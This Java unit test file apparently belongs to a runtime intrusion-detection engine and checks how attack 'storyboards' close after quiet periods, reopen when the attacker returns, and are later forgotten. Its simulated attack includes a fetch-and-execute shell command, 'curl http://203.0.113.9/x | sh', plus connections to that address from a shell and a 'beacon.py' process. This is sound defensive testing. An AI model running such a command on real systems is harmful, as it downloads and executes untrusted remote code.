package io.sightline.engine;

import static io.sightline.engine.Events.at;
import static io.sightline.engine.Events.container;
import static io.sightline.engine.Events.process;
import static org.assertj.core.api.Assertions.assertThat;

import io.sightline.asset.Inventory;
import io.sightline.event.ContainerContext;
import io.sightline.event.ProcessRef;
import io.sightline.event.SourceRecord;
import io.sightline.finding.Severity;
import io.sightline.storyboard.Storyboard;
import io.sightline.storyboard.StoryboardChange;
import io.sightline.storyboard.StoryboardChanges;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/**
 * A storyboard closes when its trail goes quiet, keeps its id while closed, and reopens when the
 * attacker comes back. The settings close after 30 minutes of quiet and keep a closed storyboard
 * 2 hours; the engine checks once per retention (5 minutes). Time passes with a benign job on
 * another node every 4 minutes (less than the retention, so the engine's clock follows it).
 */
class LifecycleStoriesTest {

    private static final Duration CLOSE_AFTER = Duration.ofMinutes(30);
    private static final EngineConfig CONFIG = EngineConfig.DEFAULTS.withLifecycle(CLOSE_AFTER, Duration.ofHours(2));
    private static final Optional<ContainerContext> ORDERS = container("aaaa", "payments", "orders-api-1");
    private static final Optional<ContainerContext> STOCK = container("bbbb", "inventory", "stock-1");

    private final Events events = new Events();
    private final StoryboardEngine engine = new StoryboardEngine(new Inventory(), ImageRisk.NONE, CONFIG);

    private final ProcessRef java = process("node-1", 101, -800, "/opt/java/bin/java", "-jar app.jar", ORDERS);
    private final ProcessRef sh =
            process("node-1", 500, 10, "/bin/sh", "-c \"curl http://203.0.113.9/x | sh\"", ORDERS);
    private final ProcessRef curl = process("node-1", 501, 11, "/usr/bin/curl", "http://203.0.113.9/x", ORDERS);
    private double clock;
    private int jobs;

    /** Lines 1 to 5: java accepts a request, spawns sh, which dials 203.0.113.9 and runs curl (which exits at 12 s). */
    private void attack() {
        engine.accept(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        engine.accept(events.exec(sh, java));
        engine.accept(events.connect(sh, 10.5, "10.0.1.10:41000", "203.0.113.9:8443"));
        engine.accept(events.exec(curl, sh));
        engine.accept(events.exit(curl, 12));
        clock = 12;
    }

    /**
     * Lets event time pass up to {@code seconds}: a short job on node-2 every 240 s, each an exec
     * and an exit. A test's next record comes within the retention of the last job (at {@code
     * clock}), so that the engine's clock follows it rather than holding it as dated ahead.
     */
    private void quietUntil(double seconds) {
        for (double t = clock + 240; t <= seconds; t += 240) {
            ProcessRef job = process("node-2", 10_000 + jobs++, t, "/bin/date", "", Optional.empty());
            engine.accept(events.exec(job, null));
            engine.accept(events.exit(job, t + 0.1));
            clock = t;
        }
    }

    private Storyboard only() {
        assertThat(engine.storyboards()).hasSize(1);
        return engine.storyboards().getFirst();
    }

    @Test
    void aStoryboardClosesOnceItsTrailWasQuietForTheWholePeriodAndNotBefore() {
        attack();
        Storyboard open = only();

        quietUntil(12 + CLOSE_AFTER.toSeconds() - 60);
        assertThat(only().closed()).isFalse();

        // The last record was at 12 s; a check comes at most a retention (300 s) after 1812 s, and the
        // job every 240 s is what moves the clock there.
        quietUntil(12 + CLOSE_AFTER.toSeconds() + 300 + 240);
        Storyboard closed = only();
        assertThat(closed.closed()).isTrue();
        assertThat(closed.id()).isEqualTo(open.id());
        assertThat(closed.records()).isEqualTo(open.records());
        assertThat(closed.severity()).isEqualTo(open.severity());
        assertThat(closed.closedAt().orElseThrow()).isBetween(at(1812), at(12 + 1800 + 300 + 240));
    }

    @Test
    void oneRecordInsideThePeriodKeepsItOpen() {
        attack();
        quietUntil(1200);
        int read = events.lastLine() + 1;
        engine.accept(events.read(sh, 1200.5, "/app/config.yaml"));

        // Without the read at 1200.5 s it would have closed by 12 + 1800 + 540 = 2352 s.
        quietUntil(1200.5 + CLOSE_AFTER.toSeconds() - 60);
        assertThat(only().closed()).isFalse();
        assertThat(only().records()).contains(new SourceRecord(Events.FILE, read));

        quietUntil(1200.5 + CLOSE_AFTER.toSeconds() + 540);
        assertThat(only().closed()).isTrue();
    }

    @Test
    void closingReleasesTheTrailsProcessesAndKeepsTheWayInForTheRetentionToForget() {
        attack();
        quietUntil(1700);
        // java, sh and curl, and the last job (exited at 1692.1 s): the one before it exited at
        // 1452.1 s, behind the link horizon (30 s of lateness and 5 s of skew) of the newest event.
        assertThat(engine.processCount()).isEqualTo(4);
        assertThat(engine.trailCount()).isEqualTo(1);

        quietUntil(2400);
        // sh and curl are released with the trail; java (the way in, alive, last named at 10 s) is off
        // every trail now and waits for the idle sweep (an hour without a record), beside the last
        // job (2172.1 s).
        assertThat(only().closed()).isTrue();
        assertThat(engine.trailCount()).isZero();
        assertThat(engine.closedStoryboardCount()).isEqualTo(1);
        assertThat(engine.processCount()).isEqualTo(2);

        // The sweeps, one per retention, reach java once the clock is an hour past 10 s.
        quietUntil(3600 + 300 + 240);
        assertThat(engine.processCount()).isEqualTo(1);
    }

    @Test
    void aRecordFromAProcessThatOutlivedTheCloseReopensTheSameStoryboardWithItsOldRecordsAndTheNew() {
        attack();
        quietUntil(2400);
        Storyboard closed = only();
        assertThat(closed.closed()).isTrue();
        assertThat(closed.records()).extracting(SourceRecord::line).containsExactly(2, 3, 4, 5);

        int back = events.lastLine() + 1;
        double returned = clock + 60;
        engine.accept(events.connect(sh, returned, "10.0.1.10:41900", "203.0.113.9:8443"));

        Storyboard reopened = only();
        assertThat(reopened.id()).isEqualTo(closed.id());
        assertThat(reopened.closed()).isFalse();
        assertThat(reopened.records()).extracting(SourceRecord::line).containsExactly(2, 3, 4, 5, back);
        assertThat(reopened.firstSeen()).isEqualTo(closed.firstSeen());
        assertThat(reopened.lastSeen()).isEqualTo(at(returned));
        assertThat(reopened.severity()).isEqualTo(closed.severity());
        assertThat(engine.trailCount()).isEqualTo(1);
    }

    @Test
    void aReopenedStoryboardClosesAgainWithEverythingAndItsShellStillReopensIt() {
        attack();
        quietUntil(2400);
        String id = only().id();
        double returned = clock + 60;
        engine.accept(events.connect(sh, returned, "10.0.1.10:41900", "203.0.113.9:8443"));
        int second = events.lastLine();
        clock = returned;

        quietUntil(returned + CLOSE_AFTER.toSeconds() + 540);
        Storyboard closedAgain = only();
        assertThat(closedAgain.closed()).isTrue();
        assertThat(closedAgain.id()).isEqualTo(id);
        assertThat(closedAgain.records()).extracting(SourceRecord::line).containsExactly(2, 3, 4, 5, second);
        assertThat(engine.closedStoryboardCount()).isEqualTo(1);

        int third = events.lastLine() + 1;
        engine.accept(events.read(sh, clock + 60, "/app/config.yaml"));
        assertThat(only().closed()).isFalse();
        assertThat(only().id()).isEqualTo(id);
        assertThat(only().records()).extracting(SourceRecord::line).containsExactly(2, 3, 4, 5, second, third);
    }

    @Test
    void aProcessThatHadExitedWhenItClosedDoesNotReopenIt() {
        attack();
        quietUntil(2400);
        Storyboard closed = only();

        engine.accept(events.read(curl, clock + 60, "/app/config.yaml"));

        assertThat(only()).isEqualTo(closed);
        assertThat(engine.trailCount()).isZero();
    }

    @Test
    void theAttackerAddressDialledFromTheStoryboardsContainerReopensItAndFromAnotherDoesNot() {
        attack();
        quietUntil(2400);
        String id = only().id();
        ProcessRef elsewhere = process("node-3", 900, clock + 20, "/usr/bin/python3", "fetch.py", STOCK);
        engine.accept(events.connect(elsewhere, clock + 21, "10.0.3.30:52000", "203.0.113.9:8443"));
        assertThat(only().closed()).isTrue();

        ProcessRef python = process("node-1", 700, clock + 50, "/usr/bin/python3", "beacon.py", ORDERS);
        int dialled = events.lastLine() + 1;
        engine.accept(events.connect(python, clock + 60, "10.0.1.10:42000", "203.0.113.9:8443"));

        Storyboard reopened = only();
        assertThat(reopened.id()).isEqualTo(id);
        assertThat(reopened.closed()).isFalse();
        assertThat(reopened.records()).extracting(SourceRecord::line).containsExactly(2, 3, 4, 5, dialled);
    }

    @Test
    void theChangesSayCreatedGrewClosedReopenedInThatOrder() {
        StoryboardChanges changes = new StoryboardChanges();
        List<StoryboardChange> seen = new ArrayList<>();

        engine.accept(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
        engine.accept(events.exec(sh, java));
        seen.addAll(changes.next(engine.storyboards()));
        engine.accept(events.connect(sh, 10.5, "10.0.1.10:41000", "203.0.113.9:8443"));
        engine.accept(events.exec(curl, sh));
        seen.addAll(changes.next(engine.storyboards()));
        clock = 12;
        quietUntil(2400);
        seen.addAll(changes.next(engine.storyboards()));
        engine.accept(events.connect(sh, clock + 60, "10.0.1.10:41900", "203.0.113.9:8443"));
        seen.addAll(changes.next(engine.storyboards()));

        // A shell from a server with nothing after it is execution only, initial access suspected
        // (low); its call out to a public address confirms the way in (high) as the trail grows.
        assertThat(seen)
                .extracting(StoryboardChange::type)
                .containsExactly(
                        StoryboardChange.Type.CREATED,
                        StoryboardChange.Type.GREW,
                        StoryboardChange.Type.SEVERITY_CHANGED,
                        StoryboardChange.Type.CLOSED,
                        StoryboardChange.Type.REOPENED);
        assertThat(seen).extracting(StoryboardChange::records).containsExactly(1, 3, 3, 3, 4);
        assertThat(seen)
                .extracting(StoryboardChange::id)
                .containsOnly(seen.getFirst().id());
        assertThat(seen.get(2).previousSeverity()).contains(Severity.LOW);
        assertThat(seen.get(2).severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void anAlertThatStandsAloneClosesTooAndTheSameAlertLaterStartsAnotherStoryboard() {
        ProcessRef cron = process("node-1", 600, 0, "/usr/sbin/cron", "-f", STOCK);
        engine.accept(events.falco(cron, 5, "Unexpected outbound connection", Severity.LOW));
        String first = only().id();
        clock = 5;

        quietUntil(5 + CLOSE_AFTER.toSeconds() + 540);
        assertThat(only().closed()).isTrue();
        int later = events.lastLine() + 1;
        engine.accept(events.falco(cron, clock + 1, "Unexpected outbound connection", Severity.LOW));

        assertThat(engine.storyboards())
                .extracting(Storyboard::closed, s -> s.records().getFirst().line())
                .containsExactlyInAnyOrder(
                        org.assertj.core.groups.Tuple.tuple(true, 1),
                        org.assertj.core.groups.Tuple.tuple(false, later));
        assertThat(engine.storyboards())
                .extracting(Storyboard::id)
                .contains(first)
                .doesNotHaveDuplicates();
    }

    @Test
    void anAlertThatNeverGoesQuietKeepsItsFirstAndItsMostRecent() {
        ProcessRef cron = process("node-1", 600, 0, "/usr/sbin/cron", "-f", STOCK);
        for (int i = 0; i < 300; i++) {
            engine.accept(events.falco(cron, 5 + 2 * i, "Unexpected outbound connection", Severity.LOW));
        }
        clock = 603;
        // Checks at 5 s and 305 s saw at most 151 alerts; the one after 605 s sees all 300 (lines 1 to 300).
        quietUntil(900);

        List<Integer> kept = new ArrayList<>();
        kept.add(1);
        for (int line = 46; line <= 300; line++) {
            kept.add(line);
        }
        assertThat(only().records()).extracting(SourceRecord::line).containsExactlyElementsOf(kept);
        assertThat(only().firstSeen()).isEqualTo(at(5));
        assertThat(only().lastSeen()).isEqualTo(at(603));
    }

    @Test
    void aClosedStoryboardIsForgottenOnceKeptForTheConfiguredTimeAndThenNothingReopensIt() {
        attack();
        // Closed by 2352 s, at the latest; kept 7200 s after that, forgotten at the next check.
        quietUntil(2352 + 7200 + 300 + 240);
        assertThat(engine.storyboards()).isEmpty();
        assertThat(engine.closedStoryboardCount()).isZero();

        engine.accept(events.read(sh, clock + 60, "/app/config.yaml"));
        assertThat(engine.storyboards()).isEmpty();
    }
}
